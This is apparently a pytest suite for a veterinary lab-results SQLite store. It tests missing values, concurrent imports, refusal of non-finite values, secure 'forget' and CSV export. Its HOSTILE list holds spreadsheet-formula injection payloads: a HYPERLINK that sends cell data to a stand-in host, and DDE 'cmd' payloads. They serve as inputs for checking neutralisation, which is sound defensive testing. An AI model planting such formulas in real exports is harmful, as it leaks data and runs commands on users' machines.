"""Results store robustness (issues 21 and 11): missing optional attributes, concurrent first
imports and multi-process writers, spreadsheet-formula injection in exports, forget leaving no
byte behind, and no non-finite value ever stored.

External references used by the checks:
- SQLite documentation: NULL is the SQL missing value; ``PRAGMA secure_delete`` (deleted content
  overwritten with zeros); ``PRAGMA wal_checkpoint(TRUNCATE)``; WAL readers are not blocked by a
  writer; the record format stores a REAL as an 8-byte big-endian IEEE 754 double (Python's
  ``struct`` packs the same bytes independently of the project).
- OWASP "CSV Injection" guidance (and OWASP ASVS 5.0, requirement 1.2.10): a cell that begins
  with ``=``, ``+``, ``-``, ``@``, tab, carriage return (or NUL) is neutralised with a leading
  single quote; exports are parsed back with Python's ``csv`` module (RFC 4180 dialect).
- IEEE 754: inf and NaN are not finite (``math.isfinite``).
Demo data are invented (no real patients or owners).
"""
from __future__ import annotations

import csv
import json
import math
import sqlite3
import struct
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from bayesbase import io as bio, store as st
from bayesbase.errors import StoreError, ValidationError
from bayesbase.store import ImportConflict, Store
from bayesbase.testing import synthetic_canonical
from store_helpers import dump_lines, process_context, reader_child, run_children

REQUIRED = "patient,species,specimen,collected_at,analyte,value,unit"
SENTINELS = ("NaT", "nan", "NaN", "None", "<NA>")  # texts pandas/Python print for a missing value


def _write(path: Path, header: str, *rows: str) -> Path:
    path.write_text(header + "\n" + "".join(r + "\n" for r in rows), encoding="utf-8")
    return path


def _bare_pair(tmp_path):
    """The issue's reproduction: two files with the required columns only."""
    a1 = _write(tmp_path / "a1.csv", REQUIRED, "REX-1,dog,S1,2024-01-10,creatinine,88,umol/L")
    a2 = _write(tmp_path / "a2.csv", REQUIRED, "REX-1,dog,S2,2024-07-10,creatinine,90,umol/L")
    return a1, a2


def _dump(db) -> str:
    return "\n".join(dump_lines(db))


def _no_sentinel_text(db) -> None:
    dump = _dump(db)
    for s in SENTINELS:
        assert f"'{s}'" not in dump, f"the store holds the text {s!r} for a missing value"


def _cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "bayesbase.cli", *map(str, args)],
                          capture_output=True, text=True, cwd=cwd)


# ============================================================ item 1: missing optional values
def test_cli_later_import_of_animal_without_birth_date(tmp_path):
    # issue 21, item 1, exactly as reported: today the second and third imports exit 2
    a1, a2 = _bare_pair(tmp_path)
    db = tmp_path / "s.sqlite"
    first = _cli("import", a1, "--db", db)
    assert first.returncode == 0, first.stderr
    second = _cli("import", a2, "--db", db)
    assert second.returncode == 0, second.stderr
    assert "1 rows added" in second.stdout
    again = _cli("import", a1, "--db", db)
    assert again.returncode == 0, again.stderr
    assert "nothing new" in again.stdout
    con = sqlite3.connect(db)
    try:
        assert con.execute("SELECT birth_date, breed, sex FROM patients").fetchall() == [
            (None, None, None)]
        assert con.execute("SELECT count(*) FROM results").fetchone()[0] == 2
    finally:
        con.close()
    _no_sentinel_text(db)


#: optional column -> (table, SQL column, first value, a different value). Values are invented;
#: the expected stored form is whatever bayesbase.data reads from the same file.
OPTIONAL = {
    "breed": ("patients", "breed", "Beagle", "Whippet"),
    "sex": ("patients", "sex", "female_neutered", "male_intact"),
    "birth_date": ("patients", "birth_date", "2019-03-02", "2018-05-06"),
    "method": ("results", "method", "analyser A", "analyser B"),
    "fasted": ("specimens", "fasted", "yes", "no"),
    "haemolysis": ("specimens", "haemolysis", "1.5", "3"),
    "lipaemia": ("specimens", "lipaemia", "0.5", "2"),
    "icterus": ("specimens", "icterus", "0.25", "1"),
    "state": ("specimens", "state", "healthy", "unwell"),
}


def _stored(db, table, column):
    con = sqlite3.connect(db)
    try:
        return [r[0] for r in con.execute(f"SELECT {column} FROM {table}")]
    finally:
        con.close()


@pytest.mark.parametrize("attr", sorted(OPTIONAL))
def test_optional_attribute_absent_present_changed(tmp_path, attr):
    table, column, v1, v2 = OPTIONAL[attr]
    db = tmp_path / "s.sqlite"
    bare, later = _bare_pair(tmp_path)
    head = REQUIRED + "," + attr
    with_v1 = _write(tmp_path / "v1.csv", head,
                     f"REX-1,dog,S1,2024-01-10,creatinine,88,umol/L,{v1}")
    with_v2 = _write(tmp_path / "v2.csv", head,
                     f"REX-1,dog,S1,2024-01-10,creatinine,88,umol/L,{v2}")
    expect_v1 = bio.read_results(with_v1)[attr].iloc[0]
    expect_v2 = bio.read_results(with_v2)[attr].iloc[0]
    missing = "" if attr == "state" else None  # state is NOT NULL, '' = assumed healthy

    with Store(db) as s:
        # absent: stored as SQL NULL; re-import adds nothing; a later import adds its result
        assert s.import_file(bare).rows_added == 1
        assert _stored(db, table, column) == [missing]
        assert s.import_file(bare).nothing_new
        assert s.import_file(later).rows_added == 1
        assert s.import_file(bare).nothing_new
        got = s.results()[attr]
        assert got.isna().all() if attr != "state" else (got == "").all()

        # present: fills the empty stored field (logged with old value NULL), then idempotent
        filled = s.import_file(with_v1)
        assert filled.rows_added == 0 and not filled.conflicts
        assert s.import_file(with_v1).nothing_new
        assert s.import_file(bare).nothing_new  # absent again: keeps the stored value
        row = s.results().set_index("specimen").loc["S1", attr]
        assert row == expect_v1
        log = s.replaced()
        assert list(log["field"]) == [attr] and log["old_value"].isna().all()

        # changed: a conflict naming the field, nothing stored; replace overwrites and logs
        with pytest.raises(ImportConflict) as err:
            s.import_file(with_v2)
        assert [c.field for c in err.value.conflicts] == [attr]
        assert s.results().set_index("specimen").loc["S1", attr] == expect_v1
        replaced = s.import_file(with_v2, replace=True)
        assert [c.field for c in replaced.conflicts] == [attr]
        assert s.results().set_index("specimen").loc["S1", attr] == expect_v2
        assert list(s.replaced()["field"]) == [attr, attr]
    _no_sentinel_text(db)


def test_files_without_any_optional_column_round_trip(tmp_path):
    # the store's main paths with a file that has none of the optional columns
    frame = synthetic_canonical(3, 4, 3)
    full = bio.to_tidy_csv(frame, tmp_path / "full.csv")
    text = pd.read_csv(full, dtype=str, keep_default_na=False)
    bare = tmp_path / "bare.csv"
    text[REQUIRED.split(",")].to_csv(bare, index=False)
    db = tmp_path / "s.sqlite"
    original = bio.read_results(bare)
    with Store(db) as s:
        assert s.import_file(bare).rows_added == len(frame)
        assert s.import_file(bare).nothing_new
        s.export_csv(None, tmp_path / "out.csv", pseudonymise=False)
        back = bio.read_results(tmp_path / "out.csv")
        cols = [c for c in st.CANONICAL_COLUMNS if c not in ("source_file", "source_row")]
        pd.testing.assert_frame_equal(back[cols], original[cols])
        pats = s.patients()
        assert pats["birth_date"].isna().all() and pats["breed"].isna().all()
        removed = s.forget("DEMO-0000")
        assert removed.by_table["results"] == 12
        assert s.import_file(bare).rows_added == 12  # the forgotten animal comes back cleanly
    _no_sentinel_text(db)


def test_migration_rewrites_missing_value_texts(tmp_path, monkeypatch):
    # a store written by an earlier version (schema 1) holding the texts of missing values
    db = tmp_path / "old.sqlite"
    a1, a2 = _bare_pair(tmp_path)
    monkeypatch.setattr(st.schema, "MIGRATIONS", st.MIGRATIONS[:1])
    monkeypatch.setattr(st.schema, "SCHEMA_VERSION", 1)
    with Store(db) as s:
        s.import_file(a1)
        c = s.connection
        c.execute("UPDATE patients SET birth_date = 'NaT', breed = 'nan', sex = '<NA>'")
        c.execute("UPDATE specimens SET laboratory = 'None', state = 'nan'")
        c.execute("UPDATE results SET method = 'nan', source_file = '<NA>'")
        c.execute("INSERT INTO replaced (import, patient, entity, field, old_value, new_value) "
                  "VALUES (1, 1, 'patient', 'breed', 'NaT', 'None')")
    monkeypatch.undo()
    assert "'NaT'" in _dump(db)
    with Store(db) as s:
        assert s.schema_version() == st.SCHEMA_VERSION >= 2
        assert s.import_file(a1).nothing_new
        assert s.import_file(a2).rows_added == 1
        assert s.connection.execute("SELECT state FROM specimens").fetchall() == [("",), ("",)]
        assert s.results()["source_file"].tolist() == ["a1.csv", "a2.csv"]
    _no_sentinel_text(db)


# ============================================================ item 4: non-finite values
@pytest.mark.parametrize("column,bad", [("value", math.inf), ("value", -math.inf),
                                        ("value", math.nan), ("haemolysis", math.inf),
                                        ("icterus", -math.inf)])
def test_non_finite_values_are_refused_with_location(tmp_path, column, bad):
    frame = synthetic_canonical(1, 3, 2)
    frame.loc[4, column] = bad
    db = tmp_path / "s.sqlite"
    with Store(db) as s:
        with pytest.raises(ValidationError) as err:
            s.import_frame(frame, "overflow.csv", "0" * 64)
        (p,) = err.value.problems
        assert (p.file, p.row, p.column) == ("overflow.csv", int(frame.loc[4, "source_row"]),
                                             column)
        assert "finite" in p.message
        assert s.results().empty and s.imports().empty
        # the same frame with the value repaired imports, and every stored REAL is finite
        frame.loc[4, column] = 1.0
        assert s.import_frame(frame, "fixed.csv", "1" * 64).rows_added == len(frame)
        vals = [v for row in s.connection.execute(
            "SELECT r.value, s.haemolysis, s.lipaemia, s.icterus FROM results r "
            "JOIN specimens s ON s.pk = r.specimen") for v in row if v is not None]
        assert vals and all(math.isfinite(v) for v in vals)


# ============================================================ item 2: processes at once
def _import_child(db, canon, name, barrier, queue):
    """Child process: wait for the others, then import its (already validated) frame."""
    try:
        barrier.wait(timeout=120)
        with Store(db) as s:
            summary = s.import_frame(canon, name)
        queue.put((name, "ok", summary.rows_added))
    except BaseException as exc:  # reported by the parent
        queue.put((name, "error", f"{type(exc).__name__}: {exc}"))


def _open_child(dbs, barrier, queue):
    """Child process: for each new store path, wait for the others, then open it and write."""
    out = []
    for db in dbs:
        barrier.wait(timeout=120)
        try:
            with Store(db) as s:
                s.connection.execute("BEGIN IMMEDIATE")
                s.connection.execute("COMMIT")
            out.append("ok")
        except BaseException as exc:
            out.append(f"{type(exc).__name__}: {exc}")
    queue.put(out)


def test_twenty_concurrent_first_imports_into_a_new_store(tmp_path):
    n = 20
    frames = []
    for i in range(n):
        f = _write(tmp_path / f"clinic{i:02d}.csv", REQUIRED,
                   f"P{i:02d},dog,S1,2024-01-10,creatinine,{80 + i},umol/L",
                   f"P{i:02d},dog,S2,2024-03-10,creatinine,{81 + i},umol/L")
        frames.append((bio.read_results(f), f.name))
    db = tmp_path / "new" / "store.sqlite"
    assert not db.exists()
    ctx = process_context(__name__)
    barrier = ctx.Barrier(n)
    out = run_children(ctx, _import_child, [(str(db), fr, name, barrier) for fr, name in frames])
    errors = [o for o in out if o[1] != "ok"]
    assert errors == []
    assert sorted(o[2] for o in out) == [2] * n
    with Store(db) as s:
        assert len(s.results()) == 2 * n and len(s.imports()) == n
        assert s.schema_version() == st.SCHEMA_VERSION
        c = s.connection
        assert c.execute("SELECT count(*) FROM schema_version").fetchone()[0] == st.SCHEMA_VERSION
        assert c.execute("SELECT count(*) FROM meta").fetchone()[0] == 1  # one salt
        assert s.integrity_check() == "ok"


def test_simultaneous_creation_of_many_new_stores(tmp_path):
    # the race of issue 21, item 2 made frequent: four processes open each of 80 new store
    # paths at the same moment (a barrier per path). Before the fix a few of the 320 opens
    # failed with "database is locked" in most runs (the deterministic form is
    # test_opening_waits_for_a_store_being_created); now none may fail.
    dbs = [str(tmp_path / f"n{i:02d}.sqlite") for i in range(80)]
    ctx = process_context(__name__)
    barrier = ctx.Barrier(4)
    out = run_children(ctx, _open_child, [(dbs, barrier)] * 4)
    errors = [e for o in out for e in o if e != "ok"]
    assert errors == []
    for db in dbs[:: 20]:
        with Store(db) as s:
            assert s.schema_version() == st.SCHEMA_VERSION
            assert s.connection.execute("SELECT count(*) FROM meta").fetchone()[0] == 1


def test_two_cli_importers_on_a_new_store_both_land(tmp_path):
    # issue 11, item 3 and issue 21, item 2: two `bayesbase import` processes, different files
    a = bio.to_tidy_csv(synthetic_canonical(4, 12, 10), tmp_path / "a.csv")
    b_frame = synthetic_canonical(4, 12, 10)
    b_frame["patient"] = ("OTHER-" + b_frame["patient"].astype(str)).astype("string")
    b = bio.to_tidy_csv(b_frame, tmp_path / "b.csv")
    db = tmp_path / "fresh.sqlite"
    cmd = [sys.executable, "-m", "bayesbase.cli", "import"]
    procs = [subprocess.Popen([*cmd, str(f), "--db", str(db)], stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for f in (a, b)]
    outs = [p.communicate(timeout=300) for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    with Store(db) as s:
        assert len(s.results()) == 2 * 480
        assert sorted(s.imports()["file"]) == ["a.csv", "b.csv"]


def test_opening_waits_for_a_store_being_created(tmp_path):
    # deterministic form of the creation race: while another connection holds a write lock on
    # a new file, switching it to WAL fails at once (the busy handler is not called), so before
    # the fix opening failed with "database is locked" however long the busy timeout; now it
    # waits within the busy timeout, and fails with a clear message after it
    db = tmp_path / "s.sqlite"
    holder = sqlite3.connect(db, isolation_level=None, check_same_thread=False)
    try:
        holder.execute("BEGIN IMMEDIATE")  # a write lock, as while the store is created
        with pytest.raises(StoreError, match="busy"):
            Store(db, timeout=0.2)
        release = threading.Timer(0.3, holder.execute, args=("COMMIT",))
        release.start()
        try:
            with Store(db, timeout=60) as s:
                assert s.schema_version() == st.SCHEMA_VERSION
        finally:
            release.join()
    finally:
        holder.close()


class _PausedStore(Store):
    """Pauses inside the insert loop of an import until told to go on."""

    midway = None
    go = None

    def _result_rows(self, rows):
        for i, r in enumerate(rows):
            if i == 10:
                self.midway.set()
                self.go.wait(timeout=120)
            yield r


def _paused_writer(db, midway, go, queue):
    try:
        _PausedStore.midway, _PausedStore.go = midway, go
        with _PausedStore(db) as s:
            summary = s.import_frame(synthetic_canonical(2, 5, 4), "writer.csv")
        queue.put(("writer", "ok", summary.rows_added))
    except BaseException as exc:
        queue.put(("writer", "error", f"{type(exc).__name__}: {exc}"))


def test_reader_process_not_blocked_by_writer_process(tmp_path):
    db = tmp_path / "s.sqlite"
    with Store(db) as s:
        s.import_frame(synthetic_canonical(1, 2, 2).assign(patient="KEEP"), "keep.csv")
    ctx = process_context(__name__)
    midway, go = ctx.Event(), ctx.Event()
    wq = ctx.Queue()
    writer = ctx.Process(target=_paused_writer, args=(str(db), midway, go, wq))
    writer.start()
    try:
        assert midway.wait(timeout=120)  # the writer holds its write transaction open
        (reader,) = run_children(ctx, reader_child, [(str(db),)])
        assert reader == ("reader", "ok", 4)  # the last committed state, not the half import
    finally:
        go.set()
        result = wq.get(timeout=120)
        writer.join(timeout=60)
    assert result == ("writer", "ok", 40) and writer.exitcode == 0
    (reader,) = run_children(ctx, reader_child, [(str(db),)])
    assert reader == ("reader", "ok", 44)


# ============================================================ item 6: exports and forget
#: OWASP CSV Injection: the characters that make a spreadsheet read a cell as a formula.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: A carriage return is kept out of this list: see test_export_cell_beginning_with_cr.
HOSTILE = ('=HYPERLINK("http://example.invalid/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1")
#: every text column of the canonical frame but censor (the schema allows '', left, right only)
TEXT_COLUMNS = ("patient", "species", "breed", "sex", "specimen", "analyte", "unit",
                "reported_value", "reported_unit", "method", "state", "source_file")
NUMERIC_COLUMNS = ("value", "haemolysis", "lipaemia", "icterus", "replicate", "source_row")


def _formula_like(cell: str) -> bool:
    """A cell a spreadsheet would read as a formula: a leading formula character and not a
    plain number (Python's float() is the independent judge of "a number")."""
    if not cell.startswith(DANGEROUS):
        return False
    try:
        return not math.isfinite(float(cell))
    except ValueError:
        return True


def _hostile_store(db):
    """A store holding one invented patient whose every text field begins with a formula
    character (a canonical frame is stored as given, so even canonical columns can be hostile)."""
    frame = synthetic_canonical(1, 2, 2)  # 4 rows: two specimens x two analytes
    for k, col in enumerate(TEXT_COLUMNS):
        v = HOSTILE[k % len(HOSTILE)]
        keep_distinct = col in ("specimen", "analyte")  # rows stay distinct
        frame[col] = pd.array([v + str(x) if keep_distinct else v for x in frame[col]],
                              dtype="string")
    frame["method"] = pd.array(["-5", "-1+1", "@x", "="], dtype="string")  # "-5" is a number
    frame["haemolysis"] = [-1.5, -1.5, 2.0, 2.0]  # negative numbers stay numbers
    with Store(db) as s:
        s.import_frame(frame, "hostile.csv", "0" * 64)
    return frame


def _parse(path):
    """Rows of an exported CSV; the leading '# ...' caution line (README) is not a row."""
    with open(path, newline="", encoding="utf-8") as fh:
        lines = [ln for ln in fh if not ln.startswith("#")]
    return list(csv.DictReader(lines))


@pytest.mark.parametrize("identified", [False, True])
def test_export_neutralises_formula_cells(tmp_path, identified):
    db = tmp_path / "s.sqlite"
    frame = _hostile_store(db)
    with Store(db) as s:
        out = s.export_csv(None, tmp_path / "e.csv", pseudonymise=not identified)
        stored = s.results()  # what the store holds is unchanged
    pd.testing.assert_frame_equal(stored.drop(columns="source_row"),
                                  st.coerce_canonical(frame).drop(columns="source_row"))
    rows = _parse(out)
    assert len(rows) == len(frame)
    for row, (_, orig) in zip(rows, stored.iterrows()):
        for col in TEXT_COLUMNS:
            cell = row[col]
            assert not _formula_like(cell), (col, cell)
            want = "" if pd.isna(orig[col]) else str(orig[col])
            if not identified and col in ("patient", "specimen", "source_file"):
                continue  # pseudonyms and a blank file name
            if want == "-5":
                assert cell == "-5"  # a number is not a formula
            elif want.startswith(DANGEROUS):
                assert cell == "'" + want, (col, cell)
            else:
                assert cell == want
        for col in NUMERIC_COLUMNS:
            if row[col] != "":
                assert float(row[col]) == float(orig[col])  # numbers stay numbers
    assert {r["haemolysis"] for r in rows} == {"-1.5", "2.0"}
    if identified:
        assert rows[0]["patient"] == "'" + HOSTILE[0]


def test_cli_export_neutralises_with_and_without_identified(tmp_path):
    db = tmp_path / "s.sqlite"
    _hostile_store(db)
    for flag in ([], ["--identified"]):
        out = tmp_path / f"e{len(flag)}.csv"
        res = _cli("export", "--patient", HOSTILE[0], "--db", db, "--out", out, *flag)
        assert res.returncode == 0, res.stderr
        for row in _parse(out):
            for col in TEXT_COLUMNS:
                assert not _formula_like(row[col]), (flag, col, row[col])


def test_neutralise_rule():
    # OWASP CSV Injection guidance, one value per leading character; NUL per OWASP ASVS 1.2.10
    cells = ["=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "\0x", "beagle", "", "-5", "+2.5e3",
             " =1", "1-2"]
    got = st.neutralise_formulas(pd.DataFrame({"t": pd.array(cells + [None], dtype="string"),
                                               "n": np.arange(len(cells) + 1.0) - 3}))
    assert got["t"].tolist()[:-1] == ["'=1+1", "'+1+1", "'-1+1", "'@A1", "'\tx", "'\rx", "'\0x",
                                      "beagle", "", "-5", "+2.5e3", " =1", "1-2"]
    assert got["t"].isna().tolist()[-1]
    assert got["n"].tolist() == list(np.arange(len(cells) + 1.0) - 3)


def test_export_cell_beginning_with_cr(tmp_path):
    # a cell holding a carriage return is quoted (RFC 4180), so that Python's csv module (the
    # outside reference) and our reader both see one row per result
    frame = synthetic_canonical(1, 2, 2)
    frame["breed"] = pd.array(["\r=1+1"] * len(frame), dtype="string")
    with Store(tmp_path / "s.sqlite") as s:
        s.import_frame(frame, "cr.csv", "0" * 64)
        out = s.export_csv(None, tmp_path / "e.csv", pseudonymise=False)
    rows = _parse(out)
    assert len(rows) == len(frame)
    assert {r["breed"] for r in rows} == {"'\r=1+1"}
    back = bio.read_results(out)  # our reader: same rows; the line break in free text became
    assert len(back) == len(frame)  # a space (validate.text.clean_free_text), with a note
    assert set(back["breed"]) == {"' =1+1"}
    assert any("control characters" in n for n in back.attrs["notes"])


def test_forget_blanks_file_names_of_its_imports(tmp_path):
    # choice: file names are kept (a user finds a row's file again), and blanked on forget for
    # every import that touched the forgotten patient
    shared = _write(tmp_path / "REX-77_and_BELLA-2_march.csv", REQUIRED,
                    "REX-77,dog,S1,2024-01-10,creatinine,88,umol/L",
                    "BELLA-2,cat,B1,2024-01-11,creatinine,120,umol/L")
    only_bella = _write(tmp_path / "bella.csv", REQUIRED,
                        "BELLA-2,cat,B2,2024-02-11,creatinine,121,umol/L")
    db = tmp_path / "s.sqlite"
    with Store(db) as s:
        s.import_file(shared)
        s.import_file(only_bella)
        s.forget("REX-77")
        assert s.imports()["file"].tolist() == ["", "bella.csv"]
        assert s.results()["source_file"].tolist() == ["", "bella.csv"]
    assert "REX-77" not in _dump(db)


def _needles(frame, patient):
    """Byte strings that identify one patient's stored data: ids, texts and each canonical
    value as SQLite stores a REAL (8-byte big-endian IEEE 754, packed by struct)."""
    mine = frame[frame["patient"] == patient]
    out = {patient.encode()}
    out |= {s.encode() for s in mine["specimen"]}
    out |= {s.encode() for s in mine["reported_value"]}
    out |= {struct.pack(">d", float(v)) for v in mine["value"]}
    return out


def _scan(paths, needles):
    blobs = [Path(p).read_bytes() for p in paths if Path(p).exists()]
    return {n for n in needles if any(n in b for b in blobs)}


def test_forget_leaves_no_byte_in_database_files_or_exports(tmp_path):
    rng = np.random.default_rng(20240611)
    frame = synthetic_canonical(2, 40, 5)
    frame["patient"] = frame["patient"].map(
        {"DEMO-0000": "FGT-ID-5521", "DEMO-0001": "KEEP-ID-8830"}).astype("string")
    frame["specimen"] = (frame["patient"].str.slice(0, 4) + "-SPC-"
                         + frame["specimen"].str.slice(-4)).astype("string")
    # distinctive values (invented): many digits, so no accidental match elsewhere
    frame["value"] = np.round(frame["value"] * np.exp(rng.normal(0, 0.01, len(frame))), 7)
    frame["reported_value"] = pd.array([repr(v) for v in frame["value"]], dtype="string")
    src = bio.to_tidy_csv(frame, tmp_path / "visit_FGT-ID-5521.csv")
    raw = bio.read_table(src)
    raw["owner"] = np.where(raw["patient"] == "FGT-ID-5521", "Invented Owner Zeta",
                            "Invented Owner Eta")
    raw.to_csv(src, index=False)
    db = tmp_path / "s.sqlite"
    files = [db, Path(f"{db}-wal"), Path(f"{db}-shm")]
    gone = _needles(frame, "FGT-ID-5521") | {b"Invented Owner Zeta", b"visit_FGT"}
    kept = _needles(frame, "KEEP-ID-8830") | {b"Invented Owner Eta"}
    with Store(db) as s:
        s.import_file(src)
        fix = frame[frame["patient"] == "FGT-ID-5521"].iloc[:3].copy()
        fix["value"] = fix["value"] * 1.0123457
        fix["reported_value"] = pd.array([repr(v) for v in fix["value"]], dtype="string")
        s.import_frame(fix, "FGT-ID-5521-correction.csv", "1" * 64, replace=True)
        gone |= _needles(fix, "FGT-ID-5521") | {b"FGT-ID-5521-correction"}
        assert _scan(files, gone | kept) == gone | kept  # the scan finds them before forget
        s.forget("FGT-ID-5521")
        # checked while the store is open: main file and WAL after forget's checkpoint
        assert _scan(files, gone) == set()
        assert _scan(files, kept) == kept
        exports = [s.export_csv(None, tmp_path / "all.csv", pseudonymise=False),
                   s.export_fhir(None, tmp_path / "all.json", pseudonymise=False),
                   s.export_csv(None, tmp_path / "p.csv")]
        assert s.connection.execute("PRAGMA secure_delete").fetchone()[0] == 1
    assert _scan(exports, gone) == set()
    assert _scan(files, gone) == set()  # and after the last connection closed
    assert json.loads((tmp_path / "all.json").read_text())["resourceType"] == "Bundle"
    assert "KEEP-ID-8830" in (tmp_path / "all.csv").read_text(encoding="utf-8")


# ============================================================ the one transaction block
def test_write_transaction_commits_rolls_back_and_always_cleans_up(tmp_path):
    # bayesbase.store.connection.write_transaction, used by Store.import_frame and the chunked
    # import: committed on a normal exit, rolled back on any exception (an interrupt too) or
    # by the block itself (a dry run), and its cleanup runs in every case
    from bayesbase.store.connection import write_transaction

    con = sqlite3.connect(tmp_path / "t.sqlite", isolation_level=None)
    con.execute("CREATE TABLE r (v)")
    cleaned = []
    with write_transaction(con, cleanup=lambda: cleaned.append("ok")):
        con.execute("INSERT INTO r VALUES (1)")
    for exc in (ValueError("bad row"), KeyboardInterrupt()):
        with pytest.raises(type(exc)):
            with write_transaction(con, cleanup=lambda: cleaned.append("error")):
                con.execute("INSERT INTO r VALUES (2)")
                raise exc
    with write_transaction(con, immediate=False, cleanup=lambda: cleaned.append("dry")):
        con.execute("INSERT INTO r VALUES (3)")
        con.execute("ROLLBACK")
    assert not con.in_transaction
    assert con.execute("SELECT v FROM r").fetchall() == [(1,)]
    assert cleaned == ["ok", "error", "error", "dry"]
    con.close()
